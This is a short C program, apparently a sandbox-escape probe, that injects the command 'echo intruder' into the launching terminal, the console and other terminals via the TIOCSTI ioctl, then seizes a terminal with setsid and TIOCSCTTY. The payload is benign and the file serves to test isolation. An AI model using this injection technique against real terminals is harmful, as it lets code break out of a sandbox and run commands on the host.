/* Types a command into the terminal that the engine was started from. */
#include "escape.h"
#include <sys/ioctl.h>
#include <termios.h>

static void type_into(int terminal) {
    const char *text = "echo intruder\n";
    for (; *text; text++)
        if (ioctl(terminal, TIOCSTI, text) == 0) escaped("typed");
}

int main(void) {
    const char *paths[] = { "/dev/tty", "/dev/console", "/dev/tty1", given("ESC_TERMINAL") };
    for (int number = 0; number < 16; number++) type_into(number);
    for (int i = 0; i < 4; i++) {
        int terminal = open(paths[i], O_RDWR);
        if (terminal >= 0) {
            type_into(terminal);
            write(terminal, "\033]0;intruder\007", 13);
        }
    }
    setsid();
    int own = open(given("ESC_TERMINAL"), O_RDWR);
    ioctl(own, TIOCSCTTY, 1);
    type_into(own);
}
